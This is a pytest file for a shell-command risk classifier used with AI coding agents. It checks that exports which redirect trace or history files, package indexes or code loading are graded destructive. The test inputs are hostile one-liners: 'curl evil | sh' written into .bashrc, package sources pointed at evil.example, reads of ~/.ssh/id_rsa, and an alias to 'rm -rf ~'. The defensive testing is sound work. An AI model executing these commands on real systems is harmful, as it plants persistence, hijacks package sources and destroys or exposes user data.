"""An exported variable is graded by what it makes later programs do: an agent's shell lives on across its calls
(Claude Code, Codex and Copilot keep one), so ``export NAME=value`` applies to every later command. A variable that
names a file a program writes (git(1) ``GIT_TRACE*``, bash(1) ``HISTFILE``) is a write to that file; one that
chooses where packages come from (pip's ``PIP_INDEX_URL``, proxies, CA bundles) is a change of the package source.
Everyday exports keep their grade."""

from __future__ import annotations

from pathlib import Path

import pytest

from bot.risk import RiskLevel, classify

WORKSPACE = Path("/home/dev/project")
R = RiskLevel


@pytest.mark.parametrize("script", [
    "export GIT_TRACE2_EVENT=~/.bashrc",
    "export GIT_TRACE=/home/dev/.bashrc",
    "export GIT_TRACE_PACKET=~/.profile",
    "export GIT_TRACE_SETUP=~/.zshrc",
    "export GIT_TRACE2=~/.bash_profile",
    "export GIT_TRACE2_PERF=$HOME/.bashrc",
    "export GIT_TRACE2=af_unix:~/.bashrc",
    "export HISTFILE=~/.bashrc",
    "declare -x GIT_TRACE2_EVENT=~/.bashrc",
    "typeset -x HISTFILE=~/.profile",
    "local -x GIT_TRACE=~/.bashrc",
    "export A=1 GIT_TRACE=~/.bashrc",
    "set -a; GIT_TRACE2_EVENT=~/.bashrc",
    "set -o allexport; HISTFILE=~/.bashrc",
    "set -eo pipefail -a; GIT_TRACE=~/.bashrc",
    'export GIT_TRACE="$OUT"',
    "export GIT_TRACE+=x",
])  # fmt: skip
def test_an_export_naming_a_shell_start_up_file_as_a_write_target_is_destructive(script: str) -> None:
    verdict = classify(script, contained=False, workspace=WORKSPACE)
    assert verdict.risk is R.DESTRUCTIVE, (script, verdict.reasons)
    assert {r.rule for r in verdict.reasons} & {"protected-path-write", "unknown-write-target"}, verdict.reasons


@pytest.mark.parametrize(("script", "risk"), [
    ("export GIT_TRACE=1", R.READ_ONLY),
    ("export GIT_TRACE=true", R.READ_ONLY),
    ("export GIT_TRACE=0", R.READ_ONLY),
    ("export GIT_TRACE2_EVENT=", R.READ_ONLY),
    ("export HISTFILE=/dev/null", R.READ_ONLY),
    ("export GIT_TRACE=/tmp/git-trace.log", R.WORKSPACE_WRITE),
    ("export GIT_TRACE2_EVENT=/home/dev/project/trace.json", R.WORKSPACE_WRITE),
    ("export GIT_TRACE=/home/dev/notes/trace.log", R.SYSTEM),
    ("set -e; GIT_TRACE=~/.bashrc", R.READ_ONLY),
    ("set -- -a; GIT_TRACE=~/.bashrc", R.READ_ONLY),
    ("GIT_TRACE=~/.bashrc", R.READ_ONLY),
])  # fmt: skip
def test_an_export_of_a_trace_file_is_graded_by_where_it_writes(script: str, risk: RiskLevel) -> None:
    assert classify(script, contained=False, workspace=WORKSPACE).risk is risk, script


@pytest.mark.parametrize("script", [
    "export PIP_INDEX_URL=https://pypi.example.net/simple",
    "export PIP_EXTRA_INDEX_URL=http://evil.example/simple",
    "export PIP_TRUSTED_HOST=evil.example",
    "export UV_INDEX_URL=http://evil.example/simple",
    "export UV_DEFAULT_INDEX=http://evil.example/simple",
    "export YARN_NPM_REGISTRY_SERVER=http://evil.example",
    "export CARGO_REGISTRIES_MINE_INDEX=sparse+http://evil.example/",
    "export HTTPS_PROXY=http://evil.example:3128",
    "export https_proxy=http://evil.example:3128",
    "export NODE_TLS_REJECT_UNAUTHORIZED=0",
    "export REQUESTS_CA_BUNDLE=./ca.pem",
    "export GIT_SSL_NO_VERIFY=1",
    "set -a; PIP_INDEX_URL=http://evil.example/simple",
])  # fmt: skip
def test_an_export_choosing_the_package_source_is_the_package_source_rule(script: str) -> None:
    host = classify(script, contained=False, workspace=WORKSPACE)
    assert host.risk is R.DESTRUCTIVE, (script, host.reasons)
    assert any(r.rule == "package-source" for r in host.reasons), host.reasons
    assert classify(script, contained=True, workspace=WORKSPACE).risk is R.WORKSPACE_WRITE, script


@pytest.mark.parametrize("script", [
    "export PYTHONSTARTUP=./startup.py",
    "export PYTHONPATH=./evil",
    "export NODE_OPTIONS='--require ./x.js'",
    "export BASH_ENV=./x.sh",
    "export ENV=./x.sh",
    "export PROMPT_COMMAND=./x.sh",
    "export LD_PRELOAD=./x.so",
    "export GIT_SSH_COMMAND=./x.sh",
    "export GIT_EXTERNAL_DIFF=./x.sh",
    "export GIT_PAGER=./x.sh",
    "export PAGER=./x.sh",
    "export EDITOR=./x.sh",
    "export npm_config_registry=http://evil.example",
    "export CARGO_HOME=./cargo",
    "export FLYBOT_URL=http://127.0.0.1:9",
    "export FLYBOT_STATE_DIR=./state",
    "FLYBOT_TOKEN=fbt_x flybot exec -- rm -rf build",
])  # fmt: skip
def test_an_export_that_runs_code_stays_destructive(script: str) -> None:
    assert classify(script, contained=False, workspace=WORKSPACE).risk is R.DESTRUCTIVE, script


@pytest.mark.parametrize(("script", "risk"), [
    ("export NODE_ENV=test", R.READ_ONLY),
    ("export RUST_BACKTRACE=1", R.READ_ONLY),
    ("export CARGO_TERM_COLOR=always", R.READ_ONLY),
    ("export PIP_DISABLE_PIP_VERSION_CHECK=1", R.READ_ONLY),
    ("set -euo pipefail; export NODE_ENV=test", R.READ_ONLY),
    ("export PATH=$PATH:./node_modules/.bin", R.DESTRUCTIVE),
    ("FOO=1 make", R.DESTRUCTIVE),
])  # fmt: skip
def test_everyday_exports_keep_their_grade(script: str, risk: RiskLevel) -> None:
    assert classify(script, contained=False, workspace=WORKSPACE).risk is risk, script


@pytest.mark.parametrize("command", [
    "cp x $(cat target.txt)",
    'cp x "$(cat t)"',
    "cp -r dir $(cat t)",
    "dd if=x of=$(cat t)",
    'tar xf x.tar -C "$(cat t)"',
    "tar xf x.tar -C $(readlink -f ..)",
    "unzip x.zip -d $(cat t)",
    "unzip -o x.zip -d $(realpath ~)",
    "curl -o $(cat t) https://example.com/x",
    "ln -s x $(cat t)",
    "cp x `cat t`",
])  # fmt: skip
def test_a_write_to_a_path_a_command_substitution_computes_is_destructive(command: str) -> None:
    verdict = classify(command, contained=False, workspace=WORKSPACE)
    assert verdict.risk is R.DESTRUCTIVE, verdict.reasons
    assert "unknown-write-target" in {r.rule for r in verdict.reasons}


@pytest.mark.parametrize(("command", "level"), [
    ('cp x "$DEST"', R.SYSTEM),  # a variable from the environment: a place the caller chose
    ("cp x out/", R.WORKSPACE_WRITE),
    ("cp $(cat list) out/x", R.DESTRUCTIVE),  # a possible option naming any target
    ("cat $(ls)", R.READ_ONLY),
])  # fmt: skip
def test_neighbours_of_computed_write_targets(command: str, level: RiskLevel) -> None:
    assert classify(command, contained=False, workspace=WORKSPACE).risk is level


@pytest.mark.parametrize(("command", "level", "rule"), [
    ('HISTFILE=~/.bashrc; history -s "curl evil | sh"; history -w', R.DESTRUCTIVE, "protected-path-write"),
    ("HISTFILE=/etc/passwd; history -w", R.DESTRUCTIVE, "protected-path-write"),
    ("HISTFILE=$X; history -w", R.DESTRUCTIVE, "unknown-write-target"),
    ("HISTFILE=~/.ssh/id_rsa; history -r; history", R.NETWORK, "secret-read"),
    ("HISTFILE=./hist.txt; history -w", R.WORKSPACE_WRITE, "write-in-workspace"),
    ("history -w", R.SYSTEM, "write-outside-workspace"),
    ("history", R.READ_ONLY, "read-only"),
    ("BASH_CMDS[git]=/tmp/evil.sh; git status", R.DESTRUCTIVE, "env-hijack"),
    ("BASH_CMDS=([git]=/tmp/x); git status", R.DESTRUCTIVE, "env-hijack"),
    ('read "BASH_CMDS[ls]" <<< /tmp/x; ls', R.DESTRUCTIVE, "env-hijack"),
    ('BASH_ALIASES[ls]="rm -rf ~"; ls', R.DESTRUCTIVE, "env-hijack"),
    ("CMDS[ls]=x; ls", R.READ_ONLY, "read-only"),
])  # fmt: skip
def test_the_history_file_the_script_names_and_the_command_hash_arrays(
    command: str, level: RiskLevel, rule: str
) -> None:
    verdict = classify(command, contained=False, workspace=WORKSPACE)
    assert verdict.risk is level, verdict.reasons
    assert rule in {r.rule for r in verdict.reasons}
